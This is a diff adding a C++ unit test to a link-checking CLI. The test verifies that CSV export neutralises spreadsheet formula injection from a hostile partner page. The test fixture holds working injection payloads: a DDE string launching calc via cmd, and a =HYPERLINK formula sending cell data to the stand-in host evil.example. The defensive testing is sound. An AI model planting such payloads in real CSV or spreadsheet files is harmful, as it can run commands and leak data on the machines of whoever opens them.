@@ -271,6 +271,43 @@ TEST_F(CliServerTest, ScanAndCheckPrintTheEvidenceAsJsonOrCsv) {
     EXPECT_EQ(RunCli({"check", "--format", "csv", s.Http("/files/a.html"), "x"}).status, 2);
 }
 
+// The texts of a hostile partner page (anchor text, rel, meta robots,
+// X-Robots-Tag) and a profile's mail address that a spreadsheet would run as
+// formulas (the anchor text's tab is trimmed off before it is written):
+// Python's csv module reads every cell of `scan --format csv` back as text
+// that starts with an apostrophe, never with a formula's sign.
+TEST_F(CliServerTest, CsvOfAHostilePageStartsNoFormula) {
+    Server().AddFile("hostile.html",
+                     "<html><head><meta name=\"robots\" content=\"+cmd|' /C calc'!A0\"></head>"
+                     "<body><a href=\"http://www.example.com/\" rel=\"-x\">\t=HYPERLINK("
+                     "&quot;http://evil.example/?d=&quot;&amp;A1,&quot;Click&quot;)</a></body>"
+                     "</html>");
+    const std::string page = Server().Http("/xrobots/hostile.html?tag=%40SUM(1%2B1)");
+    m_folder.Folder().EnsureProfilesFolder();
+    ProfileFile(m_folder.Folder())
+        .Create(m_folder.Folder().ProfilePathOfText("www.example.com"), "www.example.com",
+                {{page, "=cmd@partner.example"}}, false);
+    const Outcome o = RunCli({"scan", "--no-mail", "--format", "csv"});
+    EXPECT_EQ(o.status, 0) << o.err;
+    EXPECT_EQ(ReadBack(m_folder, o.out, "csv", "mail,anchor_text,rel,meta_robots,x_robots_tag"),
+              "\"'=cmd@partner.example\"\t"
+              "\"'=HYPERLINK(\\\"http://evil.example/?d=\\\"&A1,\\\"Click\\\")\"\t"
+              "\"'-x\"\t\"'+cmd|' /C calc'!A0\"\t\"'@SUM(1+1)\"\n");
+    const std::string in = m_folder.Root() + "/hostile.csv";
+    const std::string out = m_folder.Root() + "/formulas.txt";
+    test::WriteBytes(in, o.out);
+    const std::string command =
+        "/usr/bin/python3 -c \"import csv, sys\n"
+        "for r in csv.reader(open(sys.argv[1], newline='')):\n"
+        "    for v in r:\n"
+        "        if v[:1] in ('\\t', '\\r') or v.lstrip(' \\t\\r\\n')[:1] in "
+        "('=', '+', '-', '@'):\n"
+        "            print(repr(v))\" '" +
+        in + "' > '" + out + "'";
+    ASSERT_EQ(std::system(command.c_str()), 0);
+    EXPECT_EQ(test::ReadBytes(out), "");
+}
+
 TEST_F(CliServerTest, ScanWithEveryLinkFoundExitsWithZero) {
     AddProfile("www.example.com", {Server().Http("/files/a.html")}, true);
     const Outcome o = RunCli({"scan"});
